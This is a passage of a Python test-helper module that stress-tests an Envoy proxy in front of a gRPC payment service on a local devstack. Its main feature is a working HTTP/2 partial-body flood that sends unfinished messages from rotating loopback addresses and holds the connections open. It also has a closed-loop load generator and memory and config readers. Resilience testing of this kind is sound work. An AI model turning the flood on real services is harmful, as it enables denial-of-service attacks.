    def __init__(self, host: str, port: int, method_path: str, seconds: float = 10.0, *, block: int = 80,
                 per_address: int = 60, streams: int = 15, announced: int = 16_379, sent: int = 15_379,
                 hold: float = 6.0):
        import hpack

        if sent >= announced or 5 + sent > 16_384:
            raise ValueError("a partial message sends fewer bytes than it announces, in one DATA frame")
        self.host, self.port, self.seconds, self.block = host, port, seconds, block
        self.per_address, self.hold = per_address, hold
        headers = grpc_headers(host, port, method_path)
        block_bytes = hpack.Encoder().encode(headers)
        message = b"\x00" + struct.pack(">I", announced) + b"\x0a" * sent
        frames = [h2_frame(0x4, 0x1, 0)]  # SETTINGS ACK for Envoy's SETTINGS, read before this is sent
        for i in range(streams):
            sid = 2 * i + 1
            frames += [h2_frame(0x1, 0x4, sid, block_bytes), h2_frame(0x0, 0x0, sid, message)]  # END_HEADERS; no END_STREAM
        self._streams_blob, self._streams = b"".join(frames), streams
        self._needed = streams * len(message)
        self.counts: collections.Counter = collections.Counter()
        self._thread = threading.Thread(target=self._run, name="partial-body-flood", daemon=True)

    def __enter__(self) -> "PartialBodyFlood":
        self._thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self._thread.join(timeout=self.seconds + self.hold + 10)

    def wait(self) -> collections.Counter:
        self._thread.join(timeout=self.seconds + self.hold + 10)
        return self.counts

    def _address(self, n: int) -> str:
        return f"127.{self.block}.{(n // 250) % 250 + 1}.{n % 250 + 1}"

    def _window_opened(self, sock: socket.socket) -> bool:
        """Reads Envoy's first frames until its connection window holds every stream's bytes."""
        window, buffer = 65_535, b""
        deadline = time.monotonic() + 2.0
        while window < self._needed and time.monotonic() < deadline:
            data = sock.recv(65_536)
            if not data:
                return False
            buffer += data
            while len(buffer) >= 9:
                length = int.from_bytes(buffer[:3], "big")
                if len(buffer) < 9 + length:
                    break
                kind, sid = buffer[3], int.from_bytes(buffer[5:9], "big") & 0x7FFF_FFFF
                if kind == 0x8 and sid == 0:
                    window += int.from_bytes(buffer[9:13], "big") & 0x7FFF_FFFF
                buffer = buffer[9 + length:]
        return window >= self._needed

    def _run(self) -> None:
        held: collections.deque[tuple[float, socket.socket]] = collections.deque()
        deadline, n = time.monotonic() + self.seconds, 0
        try:
            while time.monotonic() < deadline:
                while held and held[0][0] < time.monotonic():
                    held.popleft()[1].close()
                source = self._address(n // self.per_address)
                n += 1
                try:
                    sock = _connect(self.host, self.port, source, timeout=2.0)
                    sock.sendall(PREFACE + EMPTY_SETTINGS)
                    if not self._window_opened(sock):
                        sock.close()
                        self.counts["closed before the streams"] += 1
                        continue
                    sock.sendall(self._streams_blob)
                except OSError:
                    self.counts["connections refused"] += 1
                    continue
                held.append((time.monotonic() + self.hold, sock))
                self.counts["connections"] += 1
                self.counts["streams"] += self._streams
        finally:
            for _, sock in held:
                sock.close()


def partial_body_flood(host: str, port: int, method_path: str, seconds: float = 10.0, **kw) -> PartialBodyFlood:
    """Unfinished gRPC messages as fast as one process writes them (see PartialBodyFlood); run
    several in InChildProcess to go faster than one interpreter."""
    return PartialBodyFlood(host, port, method_path, seconds, **kw)


# --------------------------------------------------------------------------------------------
# One noisy customer


@dataclasses.dataclass
class LoopResult:
    codes: collections.Counter
    latencies: list[float]  # seconds, of every call that finished

    @property
    def calls(self) -> int:
        return sum(self.codes.values())


class ClosedLoopCalls:
    """`concurrency` callers on grpc.aio (a loop on a thread of its own), each calling
    `method_path` with `request` (serialized bytes) and, as soon as it is answered, again, for
    `seconds`, over `channels` connections. Codes and latencies in .result() afterwards."""

    def __init__(self, target: str, method_path: str, request: bytes, *, concurrency: int = 300,
                 seconds: float = 10.0, metadata: Sequence[tuple[str, str]] = (), channels: int = 4,
                 timeout: float = 10.0):
        self.target, self.method_path, self.request = target, method_path, request
        self.concurrency, self.seconds, self.metadata = concurrency, seconds, tuple(metadata)
        self.channel_count, self.timeout = channels, timeout
        self.codes: collections.Counter = collections.Counter()
        self.latencies: list[float] = []
        self._loop = asyncio.new_event_loop()
        self._thread = threading.Thread(target=self._loop.run_forever, name="closed-loop", daemon=True)
        self._done: object = None
        self._stop = threading.Event()

    def __enter__(self) -> "ClosedLoopCalls":
        self._thread.start()
        self._done = asyncio.run_coroutine_threadsafe(self._main(), self._loop)
        return self

    def __exit__(self, *exc) -> None:
        self._stop.set()
        with contextlib.suppress(Exception):
            self._done.result(timeout=self.seconds + self.timeout + 10)
        self._loop.call_soon_threadsafe(self._loop.stop)
        self._thread.join(timeout=10)

    def result(self) -> LoopResult:
        """Waits for the calls to end (the time is up); what they got."""
        self._done.result(timeout=self.seconds + self.timeout + 10)
        return LoopResult(self.codes, self.latencies)

    async def _main(self) -> None:
        from grpc import aio

        channels = [aio.insecure_channel(self.target, options=[("grpc.use_local_subchannel_pool", 1)])
                    for _ in range(self.channel_count)]
        deadline = time.monotonic() + self.seconds

        async def caller(i: int) -> None:
            call = channels[i % len(channels)].unary_unary(self.method_path)
            while time.monotonic() < deadline and not self._stop.is_set():
                started = time.monotonic()
                try:
                    await call(self.request, metadata=self.metadata, timeout=self.timeout)
                    self.codes["OK"] += 1
                except aio.AioRpcError as e:
                    self.codes[e.code().name] += 1
                self.latencies.append(time.monotonic() - started)

        try:
            await asyncio.gather(*(caller(i) for i in range(self.concurrency)))
        finally:
            for channel in channels:
                await channel.close(grace=None)


def closed_loop_calls(target: str, method_path: str, request: bytes, **kw) -> ClosedLoopCalls:
    """One customer's `concurrency` concurrent unary calls in a closed loop (see ClosedLoopCalls)."""
    return ClosedLoopCalls(target, method_path, request, **kw)


# --------------------------------------------------------------------------------------------
# A grpc client from another loopback address


class AddressRelay:
    """A TCP relay on 127.0.0.1 whose connections reach host:port from `source`: a grpc channel to
    `.target` comes from `source` as far as the server can tell (grpc cannot bind an address)."""

    def __init__(self, host: str, port: int, source: str):
        self.host, self.port, self.source = host, port, source
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.target = f"127.0.0.1:{self._listener.getsockname()[1]}"
        self._socks: list[socket.socket] = []
        self._stop = threading.Event()
        self._lock = threading.Lock()

    def __enter__(self) -> "AddressRelay":
        threading.Thread(target=self._accept, name="relay-accept", daemon=True).start()
        return self

    def __exit__(self, *exc) -> None:
        self._stop.set()
        with contextlib.suppress(OSError):
            self._listener.close()
        with self._lock:
            for s in self._socks:
                with contextlib.suppress(OSError):
                    s.close()

    def _accept(self) -> None:
        while not self._stop.is_set():
            try:
                client, _ = self._listener.accept()
            except OSError:
                return
            try:
                upstream = _connect(self.host, self.port, self.source)
                upstream.settimeout(None)
            except OSError:
                client.close()
                continue
            client.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            with self._lock:
                self._socks += [client, upstream]
            for a, b in ((client, upstream), (upstream, client)):
                threading.Thread(target=self._pump, args=(a, b), name="relay-pump", daemon=True).start()

    @staticmethod
    def _pump(src: socket.socket, dst: socket.socket) -> None:
        try:
            while data := src.recv(65536):
                dst.sendall(data)
        except OSError:
            pass
        finally:
            for s in (src, dst):
                with contextlib.suppress(OSError):
                    s.shutdown(socket.SHUT_RDWR)


def address_relay(host: str, port: int, source: str) -> AddressRelay:
    """`with address_relay(host, port, "127.9.9.9") as relay: grpc.insecure_channel(relay.target)`."""
    return AddressRelay(host, port, source)


# --------------------------------------------------------------------------------------------
# Envoy's memory


@dataclasses.dataclass
class EnvoyMemory:
    rss_mb: float  # resident, from /proc/<pid>/status VmRSS
    allocated_mb: float  # what Envoy's allocator has handed out (admin /memory "allocated")
    heap_size_mb: float  # the heap it holds from the system (admin /memory "heap_size")
    free_mb: float = 0.0  # of that heap, free pages not yet handed back ("pageheap_free")
    unmapped_mb: float = 0.0  # and pages handed back ("pageheap_unmapped"); the overload manager's
    # fixed_heap monitor counts heap_size less these two

    @property
    def monitored_mb(self) -> float:
        """What the overload manager's fixed_heap monitor sees (heap less free and unmapped pages)."""
        return self.heap_size_mb - self.free_mb - self.unmapped_mb

    def __str__(self) -> str:
        return (f"RSS {self.rss_mb:.1f} MB, heap {self.heap_size_mb:.1f} MB (free {self.free_mb:.1f}, "
                f"unmapped {self.unmapped_mb:.1f}), allocated {self.allocated_mb:.1f} MB")


def rss_mb(pid: int) -> float:
    """A process's resident memory in MB (as tests/faults/test_envoy_memory.py reads it)."""
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    raise AssertionError(f"no VmRSS for process {pid}")


def envoy_memory(envoy) -> EnvoyMemory:
    """Envoy's RSS and its heap as Envoy reports it (`envoy`: a devstack Envoy, with .proc and .admin)."""
    with urllib.request.urlopen(f"http://{envoy.admin}/memory", timeout=5) as r:
        memory = json.load(r)
    mb = 1024 * 1024
    return EnvoyMemory(rss_mb(envoy.proc.pid), int(memory["allocated"]) / mb, int(memory["heap_size"]) / mb,
                       int(memory.get("pageheap_free", 0)) / mb, int(memory.get("pageheap_unmapped", 0)) / mb)


def envoy_stats(envoy, *names: str) -> dict[str, int]:
    """Counters and gauges of Envoy's admin /stats whose names contain any of `names`."""
    with urllib.request.urlopen(f"http://{envoy.admin}/stats?format=json", timeout=5) as r:
        stats = json.load(r)["stats"]
    return {s["name"]: s["value"] for s in stats if "value" in s and any(n in s["name"] for n in names)}


def percentile(values: Sequence[float], q: float) -> float:
    """The q-th percentile (0-100) of `values` (nearest rank); 0 for none."""
    if not values:
        return 0.0
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, max(0, round(q / 100 * len(ordered)) - 1))]


def median(values: Sequence[float]) -> float:
    return statistics.median(values) if values else 0.0


class EnvoyMemorySampler:
    """Envoy's memory sampled every `interval` s on a thread while the block runs: `.peak` (the
    highest RSS seen, with the heap at that moment), `.first`, `.samples`."""

    def __init__(self, envoy, interval: float = 0.25):
        self.envoy, self.interval = envoy, interval
        self.samples: list[EnvoyMemory] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, name="envoy-memory", daemon=True)

    def __enter__(self) -> "EnvoyMemorySampler":
        self.samples.append(envoy_memory(self.envoy))
        self._thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self._stop.set()
        self._thread.join(timeout=10)

    def _run(self) -> None:
        while not self._stop.wait(self.interval):
            with contextlib.suppress(OSError, ValueError, KeyError):  # the admin port busy: skip a sample
                self.samples.append(envoy_memory(self.envoy))

    @property
    def first(self) -> EnvoyMemory:
        return self.samples[0]

    @property
    def peak(self) -> EnvoyMemory:
        return max(self.samples, key=lambda m: m.rss_mb)

    @property
    def peak_heap(self) -> EnvoyMemory:
        return max(self.samples, key=lambda m: m.heap_size_mb)


def grpc_methods() -> list[str]:
    """Every method the server serves to the public, from the generated descriptors: each of
    PaymentService, AuthService and WebhookService, and grpc.health.v1.Health's."""
    from grpc_health.v1 import health_pb2

    from server.edge.pb import payments_pb2

    paths = []
    for file in (payments_pb2.DESCRIPTOR, health_pb2.DESCRIPTOR):
        for service in file.services_by_name.values():
            paths += [f"/{service.full_name}/{method.name}" for method in service.methods]
    return paths


def thread_count(pid: int) -> int:
    """How many threads a process has now."""
    return len(os.listdir(f"/proc/{pid}/task"))


def parse_http_response(data: bytes) -> tuple[int, dict[str, str], bytes] | None:
    """(status, lower-case headers, body) of an HTTP/1 response whose headers have all arrived
    (the body as far as it has); None if they have not."""
    head, sep, body = bytes(data).partition(b"\r\n\r\n")
    if not sep:
        return None
    lines = head.decode("latin-1").split("\r\n")
    parts = lines[0].split(" ", 2)
    if len(parts) < 2 or not parts[1].isdigit():
        return None
    headers = {}
    for line in lines[1:]:
        name, _, value = line.partition(":")
        headers[name.strip().lower()] = value.strip()
    return int(parts[1]), headers, body


def configured_timeouts(config_path=None) -> dict[str, float]:
    """The client-facing timeouts envoy/envoy.yaml sets on the API listener, in seconds:
    request_headers_timeout, request_timeout, stream_idle_timeout and idle_timeout (connections
    without a request); what the docs promise a client, before any scaling under pressure."""
    import re

    import yaml

    from devstack.envoyconf import CONFIG

    config = yaml.safe_load((config_path or CONFIG).read_text())
    hcm = config["static_resources"]["listeners"][0]["filter_chains"][0]["filters"][0]["typed_config"]
    values = {"request_headers_timeout": hcm.get("request_headers_timeout"),
              "request_timeout": hcm.get("request_timeout"),
              "stream_idle_timeout": hcm.get("stream_idle_timeout", "300s"),
              "idle_timeout": hcm.get("common_http_protocol_options", {}).get("idle_timeout", "3600s")}
    out = {}
    for name, value in values.items():
        match = re.fullmatch(r"(\d+(?:\.\d+)?)s", value or "")
        out[name] = float(match.group(1)) if match else float("inf")  # unset: no such timeout
    return out


def configured_body_limit(config_path=None) -> int:
    """The largest request body Envoy buffers (the buffer filter's max_request_bytes, or the REST
    route's own if it sets one): what one unfinished request may make Envoy hold, and what its
    413 answer must state."""
    config = yaml.safe_load((config_path or CONFIG).read_text())
    hcm = config["static_resources"]["listeners"][0]["filter_chains"][0]["filters"][0]["typed_config"]
    limit = next(f["typed_config"]["max_request_bytes"] for f in hcm["http_filters"]
                 if f["name"] == "envoy.filters.http.buffer")
    rest = hcm["route_config"]["virtual_hosts"][0]["routes"][-1]
    per_route = rest.get("typed_per_filter_config", {}).get("envoy.filters.http.buffer", {})
    return int(per_route.get("buffer", {}).get("max_request_bytes", limit))


def configured_route(path: str, config_path=None) -> tuple[dict, dict]:
    """envoy.yaml (parsed), and the first of the API's routes that a gRPC path matches (by path,
    prefix or whole-path regex), the one Envoy picks for it: its cluster, and its per-route filter
    configs (a rate limit's token bucket)."""
    config = yaml.safe_load((config_path or CONFIG).read_text())
    hcm = config["static_resources"]["listeners"][0]["filter_chains"][0]["filters"][0]["typed_config"]
    for route in hcm["route_config"]["virtual_hosts"][0]["routes"]:
        match = route["match"]
        if (match.get("path") == path or ("prefix" in match and path.startswith(match["prefix"]))
                or ("safe_regex" in match and re.fullmatch(match["safe_regex"]["regex"], path))):
            return config, route
    raise AssertionError(f"envoy.yaml has no route for {path}")


def configured_overload_limits(config_path=None) -> tuple[int, int]:
    """(the connection cap, the heap's size in bytes) of envoy.yaml's overload manager."""
    monitors = {m["name"]: m["typed_config"]
                for m in yaml.safe_load((config_path or CONFIG).read_text())["overload_manager"]["resource_monitors"]}
    return (int(monitors["envoy.resource_monitors.global_downstream_max_connections"]["max_active_downstream_connections"]),
            int(monitors["envoy.resource_monitors.fixed_heap"]["max_heap_size_bytes"]))

